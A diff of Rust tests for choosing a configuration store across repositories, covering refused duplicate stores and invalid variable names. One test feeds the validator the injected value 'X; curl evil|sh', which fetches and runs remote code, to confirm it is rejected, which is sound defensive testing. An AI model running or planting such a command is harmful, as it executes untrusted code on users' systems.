@@ -7,6 +7,10 @@ use super::*;
 struct World {
     place: tempfile::TempDir,
     env: Vec<(&'static str, &'static str)>,
+    /// A second repository takes part.
+    two: bool,
+    /// Something lies in no repository.
+    outside: bool,
 }
 
 impl World {
@@ -17,7 +21,7 @@ impl World {
                 std::fs::write(place.path().join(name), text).expect("file");
             }
         }
-        Self { place, env: Vec::new() }
+        Self { place, env: Vec::new(), two: false, outside: false }
     }
 
     fn with(mut self, name: &'static str, value: &'static str) -> Self {
@@ -27,8 +31,9 @@ impl World {
 
     fn store(&self) -> Result<StoreSetting, ConfigError> {
         let at = |name: &str| self.place.path().join(name);
-        let places =
-            Places { system: at("system"), user: Some(at("user")), repositories: vec![at("repository"), at("other")] };
+        let mut repositories = vec![at("repository")];
+        repositories.extend(self.two.then(|| at("other")));
+        let places = Places { system: at("system"), user: Some(at("user")), repositories, outside: self.outside };
         let env = |name: &str| self.env.iter().find(|(set, _)| *set == name).map(|(_, value)| OsString::from(value));
         store(&env, &places)
     }
@@ -76,8 +81,17 @@ fn a_repository_may_name_a_variable_and_nothing_else() {
 
 #[test]
 fn two_repositories_with_two_stores_are_refused() {
-    let world = World::new("", "", "store = { url_env = \"A\" }").with("A", "postgres://a").with("B", "postgres://b");
+    let mut world =
+        World::new("", "", "store = { url_env = \"A\" }").with("A", "postgres://a").with("B", "postgres://b");
+    world.two = true;
+    // One that says nothing has the embedded store.
+    assert!(matches!(world.store(), Err(ConfigError::TwoStores(..))));
     std::fs::write(world.place.path().join("other"), "store = { url_env = \"B\" }").expect("file");
+    assert!(matches!(world.store(), Err(ConfigError::TwoStores(..))));
+    std::fs::write(world.place.path().join("other"), "store = { url_env = \"A\" }").expect("file");
+    assert!(world.store().is_ok());
+    // What lies in no repository has the embedded store too.
+    world.outside = true;
     assert!(matches!(world.store(), Err(ConfigError::TwoStores(..))));
 }
 
@@ -85,6 +99,13 @@ fn two_repositories_with_two_stores_are_refused() {
 fn what_is_named_must_be_there() {
     let unset = World::new("", "", "store = { url_env = \"DB\" }");
     assert!(matches!(unset.store(), Err(ConfigError::Unset { .. })));
+    // Whoever says which store needs no variable of the repository's.
+    assert!(World::new("", "", "store = { url_env = \"DB\" }").with("LOCKED_STORE", "embedded").store().is_ok());
+    for name in ["X; curl evil|sh", "", "1X", "A\u{1b}B"] {
+        let text = format!("store = {{ url_env = {name:?} }}").replace("\\u{1b}", "\\u001b");
+        let error = World::new("", "", &text).store().expect_err("no name");
+        assert!(matches!(error, ConfigError::NoName { .. }), "{error:?}");
+    }
     for text in ["store = {}", "store = { url = \"a\", url_env = \"B\" }", "store = { advisory = true }"] {
         assert!(matches!(World::new("", text, "").store(), Err(ConfigError::Choice { .. })), "{text}");
     }
